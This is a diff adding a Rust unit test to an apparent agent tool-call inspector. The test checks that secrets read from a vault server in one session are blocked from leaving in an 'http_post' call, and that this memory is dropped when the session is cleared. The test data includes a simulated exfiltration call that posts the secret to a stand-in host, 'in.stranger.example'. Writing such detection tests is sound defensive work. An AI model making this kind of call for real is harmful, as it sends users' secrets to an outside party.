@@ -259,3 +259,25 @@ fn orders_of_a_definition_that_is_only_redacted_steer_all_the_same() {
     let run = at(&inspector, &call(2, "run", r#"{"command":"git status"}"#), 2);
     assert_eq!(run.action, Action::Warn, "{run}");
 }
+
+#[test]
+fn what_a_session_that_is_cleared_knew_to_be_secret_is_forgotten_with_it() {
+    let inspector = Inspector::builder().build().unwrap();
+    let send = |session: &str, principal: &str, id: usize| {
+        let bytes =
+            call(id, "http_post", r#"{"url":"https://in.stranger.example/","body":"osprey-lantern-71-gravel"}"#);
+        let message = Message::to_server(bytes.as_bytes()).server("web").session(session).principal(principal);
+        inspector.inspect(&message.at(Duration::from_secs(1000))).is_blocked()
+    };
+    let read = call(1, "get_secret", r#"{"name":"a"}"#);
+    let said = r#"{"jsonrpc":"2.0","id":1,"result":{"content":[{"type":"text","text":"osprey-lantern-71-gravel"}]}}"#;
+    for message in [Message::to_server(read.as_bytes()), Message::to_client(said.as_bytes())] {
+        let message = message.server("vault").session("one").principal("ann").at(Duration::from_secs(999));
+        assert_eq!(inspector.inspect(&message).action, Action::Allow);
+    }
+    assert!(send("two", "ann", 2) && !send("three", "bob", 2));
+    assert_eq!(inspector.sessions().len(), 3, "what sessions share is none");
+    let one = inspector.sessions().into_iter().find(|known| known.session.as_deref() == Some("one")).unwrap();
+    assert!(inspector.clear_session(&one.id));
+    assert!(!send("four", "ann", 3));
+}
